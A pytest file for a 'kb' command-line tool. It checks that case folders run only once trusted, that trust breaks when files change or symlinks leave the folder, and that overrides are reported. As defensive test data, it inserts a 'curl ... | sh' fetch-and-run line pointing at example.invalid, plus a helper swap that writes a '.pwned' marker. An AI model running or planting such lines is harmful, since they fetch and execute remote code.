"""Workspace trust and overrides that are never silent (issue 11, points 1 and 5)."""

from __future__ import annotations

import io
import json
import sys
from pathlib import Path

import pytest

from kb.cases.caseset import load_cases
from kb.cli import main
from kb.core.paths import builtin_cases_dir

CASE = """---
id: {id}
title: "{title}"
category: {category}
signatures: ["{signature}"]
symptoms: [something odd happens in a trust test]
sources: [tests]
{extra}---

# {title}

## Symptoms
x

## Causes
x

## Fix
x

## Verify
```bash {{name=writes doctor=yes timeout=10}}
touch {marker}
exit 1
```
"""


def write_case(folder: Path, case_id: str, marker: Path, title: str = "A team case", overrides: bool = False,
               category: str = "config", sub: str = "config") -> Path:
    (folder / sub).mkdir(parents=True, exist_ok=True)
    path = folder / sub / f"{case_id}.md"
    path.write_text(CASE.format(id=case_id, title=title, category=category, marker=marker,
                                signature=f"TrustTestError: {case_id} failed badly",
                                extra="overrides: true\n" if overrides else ""), encoding="utf-8")
    return path


@pytest.fixture
def team(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> tuple[Path, Path]:
    """A KB_CASES folder with a doctor=yes check that writes a marker file."""
    folder = tmp_path / "team"
    marker = tmp_path / "marker"
    write_case(folder, "team-widget-broken", marker)
    monkeypatch.setenv("KB_CASES", str(folder))
    return folder, marker


def run_kb(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str, str]:
    rc = main(list(argv))
    out = capsys.readouterr()
    return rc, out.out, out.err


# ---------------------------------------------------------------- point 1: doctor and run


def test_doctor_does_not_run_an_untrusted_folder(team: tuple[Path, Path], capsys: pytest.CaptureFixture[str]) -> None:
    folder, marker = team
    rc, out, _ = run_kb(capsys, "doctor", "--only", "--python", sys.executable)
    assert rc == 0
    assert not marker.exists(), "kb doctor ran a check of a folder nobody trusted"
    assert "team-widget-broken / writes: not run: folder not trusted" in out
    assert f"kb trust {folder.resolve()}" in out  # the exact command that trusts it
    assert "KB_CASES folder: " + str((folder / "config" / "team-widget-broken.md").resolve()) in out

    rc, out, _ = run_kb(capsys, "doctor", "--only", "--json", "--python", sys.executable)
    data = json.loads(out)
    assert data["not_run"] == [{
        "case": "team-widget-broken", "check": "writes", "reason": "folder not trusted",
        "origin": "KB_CASES folder: " + str((folder / "config" / "team-widget-broken.md").resolve()),
        "trust_command": f"kb trust {folder.resolve()}",
    }]
    assert not marker.exists()


def test_trusting_the_folder_lets_doctor_run_it_until_it_changes(team: tuple[Path, Path], capsys: pytest.CaptureFixture[str]) -> None:
    folder, marker = team
    rc, out, _ = run_kb(capsys, "trust", str(folder), "--yes")
    assert rc == 0 and "team-widget-broken / writes (doctor)" in out
    rc, out, _ = run_kb(capsys, "doctor", "--only", "--python", sys.executable)
    assert marker.exists()
    assert "Confirmed on this node (1):" in out and "team-widget-broken / writes" in out
    marker.unlink()

    # a changed folder (one byte of a case file) is untrusted again
    path = folder / "config" / "team-widget-broken.md"
    path.write_text(path.read_text(encoding="utf-8").replace("A team case", "A team case!"), encoding="utf-8")
    rc, out, _ = run_kb(capsys, "doctor", "--only", "--python", sys.executable)
    assert not marker.exists()
    assert "not run: folder changed since it was trusted" in out
    rc, out, _ = run_kb(capsys, "trust", "--list")
    assert str(folder.resolve()) in out and "CHANGED since trusted" in out
    # a new file is a change too
    run_kb(capsys, "trust", str(folder), "--yes")
    write_case(folder, "team-other", marker)
    rc, out, _ = run_kb(capsys, "doctor", "--only", "--python", sys.executable)
    assert not marker.exists() and "not run: folder changed since it was trusted" in out


def test_trust_list_and_revoke(team: tuple[Path, Path], capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    folder, _ = team
    rc, out, _ = run_kb(capsys, "trust", "--list")
    assert rc == 0 and "No trusted case folders" in out
    run_kb(capsys, "trust", str(folder), "--yes")
    rc, out, _ = run_kb(capsys, "trust", "--list", "--json")
    records = json.loads(out)["folders"]
    assert [(r["folder"], r["current"]) for r in records] == [(str(folder.resolve()), True)]
    from kb.core.paths import data_dir

    assert json.loads(out)["file"] == str(data_dir() / "trust.json")
    rc, out, _ = run_kb(capsys, "trust", "--revoke", str(folder))
    assert rc == 0 and "no longer trusted" in out
    rc, out, _ = run_kb(capsys, "trust", "--list")
    assert "No trusted case folders" in out
    rc, _, err = run_kb(capsys, "trust", str(tmp_path / "nope"))
    assert rc == 2 and "is not a folder" in err
    rc, _, err = run_kb(capsys, "trust")
    assert rc == 2


def test_run_yes_refuses_an_untrusted_folder(team: tuple[Path, Path], capsys: pytest.CaptureFixture[str]) -> None:
    folder, marker = team
    rc, _, err = run_kb(capsys, "run", "team-widget-broken", "--yes")
    assert rc == 2 and not marker.exists()
    assert "not trusted" in err and f"kb trust {folder.resolve()}" in err
    run_kb(capsys, "trust", str(folder), "--yes")
    rc, out, _ = run_kb(capsys, "run", "team-widget-broken", "--yes")
    assert rc == 0 and marker.exists()


def test_run_confirmed_once_on_a_terminal_runs_and_says_untrusted(team: tuple[Path, Path], capsys: pytest.CaptureFixture[str],
                                                                  monkeypatch: pytest.MonkeyPatch) -> None:
    folder, marker = team
    from kb.commands import run as run_cmd

    monkeypatch.setattr(run_cmd, "is_interactive", lambda: True)
    monkeypatch.setattr(sys, "stdin", io.StringIO("n\n"))
    rc, out, _ = run_kb(capsys, "run", "team-widget-broken")
    assert rc == 1 and not marker.exists()
    assert "trust: NOT TRUSTED (folder not trusted)" in out
    assert "from KB_CASES folder: " + str((folder / "config" / "team-widget-broken.md").resolve()) in out
    assert f"| touch {marker}" in out  # the code is shown before the question
    monkeypatch.setattr(sys, "stdin", io.StringIO("y\n"))
    rc, out, _ = run_kb(capsys, "run", "team-widget-broken")
    assert rc == 0 and marker.exists()  # confirmed after seeing the code: runs this once
    from kb.cases.trust import list_trusted

    assert list_trusted() == []  # ... and trusts nothing


def test_builtin_cases_are_trusted(capsys: pytest.CaptureFixture[str]) -> None:
    rc, out, _ = run_kb(capsys, "run", "nccl-unhandled-system-error", "--dry-run")
    assert rc == 0
    assert "trust: built-in cases" in out
    assert "from built-in folder: " + str(builtin_cases_dir() / "distributed-comm" / "nccl-unhandled-system-error.md") in out


# ---------------------------------------------------------------- point 5: overrides are never silent


@pytest.fixture
def override(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> tuple[Path, Path]:
    """A KB_CASES copy of a built-in case with overrides: true."""
    folder = tmp_path / "team"
    marker = tmp_path / "marker"
    path = write_case(folder, "nccl-unhandled-system-error", marker, title="Team NCCL note", overrides=True,
                      category="distributed-comm", sub="distributed-comm")
    monkeypatch.setenv("KB_CASES", str(folder))
    return path.resolve(), builtin_cases_dir().resolve() / "distributed-comm" / "nccl-unhandled-system-error.md"


def test_kb_check_names_the_override_and_the_file_it_replaces(override: tuple[Path, Path], capsys: pytest.CaptureFixture[str]) -> None:
    team_file, builtin_file = override
    rc, out, _ = run_kb(capsys, "check")
    assert rc == 0
    assert f"{team_file}:1: note: overrides built-in case 'nccl-unhandled-system-error' of {builtin_file}" in out
    assert "1 override(s)" in out


def test_show_and_run_name_layer_file_and_override(override: tuple[Path, Path], capsys: pytest.CaptureFixture[str]) -> None:
    team_file, builtin_file = override
    expected = f"KB_CASES folder: {team_file} (overrides built-in {builtin_file})"
    rc, out, _ = run_kb(capsys, "show", "nccl-unhandled-system-error")
    assert expected in out
    rc, out, _ = run_kb(capsys, "show", "nccl-unhandled-system-error", "--json")
    data = json.loads(out)
    assert (data["layer"], data["file"], data["overrides"]) == ("KB_CASES", str(team_file), {"layer": "built-in", "file": str(builtin_file)})
    rc, out, _ = run_kb(capsys, "run", "nccl-unhandled-system-error", "--dry-run")
    assert expected in out and "NOT TRUSTED" in out


def test_doctor_report_names_the_override(override: tuple[Path, Path]) -> None:
    from kb.checks.doctor import format_report, run_doctor

    team_file, builtin_file = override
    case = load_cases().get("nccl-unhandled-system-error")
    out = format_report(run_doctor([case], python=sys.executable, progress=False))
    assert f"nccl-unhandled-system-error / writes: not run: folder not trusted  (KB_CASES folder: {team_file} (overrides built-in {builtin_file}))" in out


def test_search_names_layer_file_and_override(override: tuple[Path, Path], capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    team_file, builtin_file = override
    query = "TrustTestError: nccl-unhandled-system-error failed badly"
    rc, out, _ = run_kb(capsys, "search", "--no-dense", "--index-dir", str(tmp_path / "index"), "--json", query)
    top = json.loads(out)["results"][0]
    assert top["id"] == "nccl-unhandled-system-error"
    assert (top["layer"], top["file"], top["overrides"]) == ("KB_CASES", str(team_file), {"layer": "built-in", "file": str(builtin_file)})
    others = json.loads(out)["results"][1:]
    assert all(r["layer"] == "built-in" and r["overrides"] is None for r in others)
    rc, out, _ = run_kb(capsys, "search", "--no-dense", "--index-dir", str(tmp_path / "index"), query)
    assert f"from KB_CASES folder: {team_file} (overrides built-in {builtin_file})" in out


def test_same_id_twice_in_one_folder_is_an_error_whatever_overrides_says(tmp_path: Path) -> None:
    folder = tmp_path / "team"
    marker = tmp_path / "m"
    write_case(folder, "twin-case", marker, sub="a")
    write_case(folder, "twin-case", marker, sub="b", overrides=True)
    caseset = load_cases([folder], include_builtin=False)
    errors = [p for p in caseset.errors if "duplicate id 'twin-case' inside one folder" in p.message]
    assert len(errors) == 1 and str(folder / "a" / "twin-case.md") in errors[0].message
    assert caseset.get("twin-case").path == folder.resolve() / "a" / "twin-case.md"


def test_app_card_names_layer_and_override(override: tuple[Path, Path]) -> None:
    from kb.search.engine import Result
    from tui.widgets.card import render_card

    team_file, builtin_file = override
    result = Result("nccl-unhandled-system-error", "Team NCCL note", "distributed-comm", str(team_file), 0.9, "high", {}, [],
                    layer="KB_CASES", overrides=str(builtin_file), overrides_layer="built-in")
    text = render_card(1, result).plain
    assert f"KB_CASES · {team_file}" in text
    assert "overrides built-in cases/distributed-comm/nccl-unhandled-system-error.md" in text


def test_app_run_dialog_says_untrusted_shows_code_visibly_and_can_trust(team: tuple[Path, Path]) -> None:
    """The app's dialog: layer and file, NOT TRUSTED, escapes in the shown code visible, 'Trust folder and run'."""
    import asyncio

    from textual.app import App
    from textual.widgets import Button, Static

    from kb.cases.trust import case_trust
    from tui.screens.confirm import ConfirmRunScreen

    folder, marker = team
    path = write_case(folder, "team-with-param", marker)
    text = path.read_text(encoding="utf-8").replace("---\n\n#", "params:\n  v: {description: a text value}\n---\n\n#", 1)
    path.write_text(text.replace("touch ", "v=\"$KB_PARAM_V\"\ntouch "), encoding="utf-8")
    case = load_cases().get("team-with-param")
    assert case is not None
    answers: list[bool | None] = []

    class Host(App[None]):
        def on_mount(self) -> None:
            self.push_screen(ConfirmRunScreen(case, case.checks, given={"v": "plain value"}), answers.append)

    async def drive() -> None:
        app = Host()
        async with app.run_test(size=(120, 40)) as pilot:
            await pilot.pause()
            dialog = app.screen
            assert isinstance(dialog, ConfirmRunScreen)
            origin = str(dialog.query_one("#dialog-origin", Static).content)
            assert "NOT TRUSTED (folder not trusted)" in origin and "KB_CASES" in origin
            assert dialog.query_one("#yes", Button).label.plain == "Run once (y)"
            # the code exactly as it runs: the value is in its environment, never in its text
            code = dialog.query_one("#plan-code-0", Static).content.code
            assert 'v="$KB_PARAM_V"' in code and "plain value" not in code
            await pilot.click("#trust")
            await pilot.pause()

    asyncio.run(drive())
    assert answers == [True]
    assert case_trust(case).trusted  # recorded with the folder's current content


def test_trust_is_judged_on_the_bytes_that_were_loaded(team: tuple[Path, Path]) -> None:
    """A file swapped after loading: the loaded cases keep the loaded hash; trusting them records that hash."""
    from kb.cases.trust import case_trust, folder_hash, trust_folder

    folder, marker = team
    case = load_cases().get("team-widget-broken")
    path = folder / "config" / "team-widget-broken.md"
    path.write_text(path.read_text(encoding="utf-8").replace("exit 1", "exit 1 # swapped"), encoding="utf-8")
    assert folder_hash(folder) != case.folder_hash
    trust_folder(folder, case.folder_hash)  # what the user was shown
    assert case_trust(case).trusted  # the loaded (shown) code is trusted...
    assert not case_trust(load_cases().get("team-widget-broken")).trusted  # ...the swapped file is not


# ---------------------------------------------------------------- issue 28, item 3: trust covers the folder, all of it


def test_a_changed_helper_file_untrusts_the_folder(team: tuple[Path, Path], capsys: pytest.CaptureFixture[str]) -> None:
    """The attack: a trusted check sources a helper next to it; on main only *.md was hashed, so the
    helper's new content ran unasked. Now every file under the folder is covered."""
    folder, marker = team
    path = folder / "config" / "team-widget-broken.md"
    helper = folder / "config" / "helper.sh"
    helper.write_text("echo helper v1\n", encoding="utf-8")
    path.write_text(path.read_text(encoding="utf-8").replace("touch ", f'. "{helper}"\ntouch '), encoding="utf-8")
    rc, _, err = run_kb(capsys, "trust", str(folder), "--yes")
    assert rc == 0, err
    assert run_kb(capsys, "run", "team-widget-broken", "--yes")[0] == 0 and marker.exists()
    marker.unlink()
    helper.write_text(f"echo helper v2; touch {marker}.pwned\n", encoding="utf-8")
    rc, _, err = run_kb(capsys, "run", "team-widget-broken", "--yes")
    assert rc == 2 and "folder changed since it was trusted" in err
    assert not marker.exists() and not Path(f"{marker}.pwned").exists()
    rc, out, _ = run_kb(capsys, "doctor", "--only", "--python", sys.executable)
    assert not Path(f"{marker}.pwned").exists() and "not run: folder changed since it was trusted" in out


def test_a_symlink_leaving_the_folder_is_refused(team: tuple[Path, Path], tmp_path: Path,
                                                  capsys: pytest.CaptureFixture[str]) -> None:
    folder, marker = team
    outside = tmp_path / "outside.sh"
    outside.write_text("echo outside\n", encoding="utf-8")
    (folder / "config" / "helper.sh").symlink_to(outside)
    rc, _, err = run_kb(capsys, "trust", str(folder), "--yes")
    assert rc == 2 and "helper.sh is a symlink to" in err and "outside the folder" in err
    from kb.cases.trust import case_trust

    state = case_trust(load_cases().get("team-widget-broken"))
    assert not state.trusted
    # trusted first, the link planted afterwards: untrusted again, and kb run --yes refuses
    (folder / "config" / "helper.sh").unlink()
    assert run_kb(capsys, "trust", str(folder), "--yes")[0] == 0
    (folder / "config" / "helper.sh").symlink_to(outside)
    rc, _, err = run_kb(capsys, "run", "team-widget-broken", "--yes")
    assert rc == 2 and "a symlink leaves the folder" in err and not marker.exists()


def test_trust_shows_the_code_then_the_diff_and_asks(team: tuple[Path, Path], capsys: pytest.CaptureFixture[str],
                                                     monkeypatch: pytest.MonkeyPatch) -> None:
    """The attack: on main `kb trust` re-trusted a folder whose check code changed, printing only names."""
    folder, marker = team
    # not a terminal and no --yes: nothing is trusted
    rc, out, err = run_kb(capsys, "trust", str(folder))
    assert rc == 2 and "refusing to trust without confirmation" in err
    assert f"touch {marker}" in out  # the code it would trust was shown
    assert not load_cases() or "folder not trusted" in _reason()
    # on a terminal: shown, asked, declined
    monkeypatch.setattr("kb.commands.trust.is_interactive", lambda: True)
    monkeypatch.setattr("sys.stdin", io.StringIO("n\n"))
    rc, out, _ = run_kb(capsys, "trust", str(folder))
    assert rc == 1 and "Nothing was trusted" in out and "[y/N]" in out and "folder not trusted" in _reason()
    monkeypatch.setattr("sys.stdin", io.StringIO("y\n"))
    rc, out, _ = run_kb(capsys, "trust", str(folder))
    assert rc == 0 and "trusted " in out and _reason() == "trusted folder"
    # the code changes: the next kb trust shows the diff since the last trust, and asks again
    path = folder / "config" / "team-widget-broken.md"
    path.write_text(path.read_text(encoding="utf-8").replace("exit 1", "curl -s http://example.invalid | sh\nexit 1"),
                    encoding="utf-8")
    (folder / "config" / "notes.txt").write_text("new file\n", encoding="utf-8")
    monkeypatch.setattr("sys.stdin", io.StringIO("n\n"))
    rc, out, _ = run_kb(capsys, "trust", str(folder))
    assert rc == 1 and "changes since you trusted it" in out
    assert "team-widget-broken / writes: changed" in out and "+curl -s http://example.invalid | sh" in out
    assert "file added: config/notes.txt" in out
    assert _reason() == "folder changed since it was trusted"


def _reason() -> str:
    from kb.cases.trust import case_trust

    case = load_cases().get("team-widget-broken")
    return case_trust(case).reason if case is not None else ""
